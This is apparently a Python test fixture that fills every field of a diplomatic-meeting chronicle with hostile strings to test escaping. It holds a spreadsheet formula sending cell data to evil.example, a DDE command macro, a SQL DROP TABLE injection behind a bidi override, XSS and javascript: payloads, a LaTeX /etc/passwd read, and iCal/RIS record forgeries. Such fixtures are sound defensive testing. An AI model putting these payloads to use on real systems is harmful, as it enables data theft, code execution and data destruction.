"""A chronicle whose every text wants to be more than text: formulas, marks of direction, scripts, huge titles."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import msgspec

from factories.accounts import account, document
from summitry.linking import Source, link
from summitry.model import Account, Claim, Document, Evidence, Extraction, Participant, Place, SignedDocument, When
from summitry.store import Chronicle

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
MACRO = "+cmd|' /C calc'!A0"
AT, MINUS = "@SUM(1+1)*cmd", "-2+3"
TURNED = "Xi \u202eniturtaP\u202c; DROP TABLE engagements; --"
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
LATEX = r"100% \input{/etc/passwd} {unbalanced $ & # _ ~ ^"
ICAL = "Summit\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged"
RIS = "Talks\nER  - \nTY  - BOOK"
ASTRAL = "峰会 👨‍👩‍👧 Саммит"
HUGE = "Огромный заголовок " * 2000
RUNS = "javascript:alert(document.domain)"
TEXTS = (
    FORMULA,
    MACRO,
    AT,
    MINUS,
    TURNED,
    SCRIPT,
    LATEX,
    ICAL,
    RIS,
    ASTRAL,
    HUGE,
    "\tTab",
    "\x07Bell\x00",
    "'quoted",
    '"',
)
#: Words that stand in the documents and are quoted exactly.
QUOTE = f"{FORMULA} said \u202e{SCRIPT}\u202c on 8 May, {ASTRAL}\n{MINUS}"


@dataclass(frozen=True)
class Hostile:
    """One text, put wherever a text can stand."""

    number: int
    text: str

    @property
    def document(self) -> Document:
        body = f"{self.text} — {QUOTE}. {self.text}"
        return document(
            f"=cmd|{self.number}", body, title=self.text, lang="en",
            publisher=self.text, url=RUNS if self.number % 2 else "https://example.org/a?b=1&c={x}", licence=self.text,
            published=f"20{10 + self.number:02}-05-09",
        )  # fmt: skip

    @property
    def account(self) -> Account:
        held = self.document
        start = held.text.index(QUOTE)
        people = (Participant(self.text, "CHN", "guest"), Participant(f"Other {self.number}", "RUS", "host"))
        plain = account("meeting", "CHN:a, RUS:b", doc=held.doc_id, place="x, RUS")
        return msgspec.structs.replace(
            plain, account_id=f"hostile-{self.number:02}", participants=people, occasion=self.text,
            date=When.of(f"20{10 + self.number:02}-05-08", "stated"), place=Place("RUS", self.text, self.text),
            documents=(SignedDocument("agreement", 2, self.text),),
            evidence=(Evidence(held.doc_id, "text", start, start + len(QUOTE), QUOTE, "date", "test"),),
        )  # fmt: skip

    @property
    def claim(self) -> Claim:
        return Claim(
            claim_id=f"claim-{self.number:02}", doc_id=self.document.doc_id, type="assessment", text=self.text,
            speaker=self.text, parties=("CHN", "RUS"),
        )  # fmt: skip


def write_hostile(db: Path) -> int:
    """Make the chronicle; the number of its engagements."""
    told = [Hostile(number, text) for number, text in enumerate(TEXTS)]
    sources = {one.document.doc_id: Source(one.document.doc_id, one.text, None, RUNS) for one in told}
    with Chronicle.create(db) as chronicle, chronicle.transaction():
        batch = [(one.document, Extraction(one.document.doc_id, (one.account,), (one.claim,))) for one in told]
        chronicle.write_documents(batch, "test")
        found = link([one.account for one in told], sources)
        chronicle.write_engagements(found)
        return len(found)
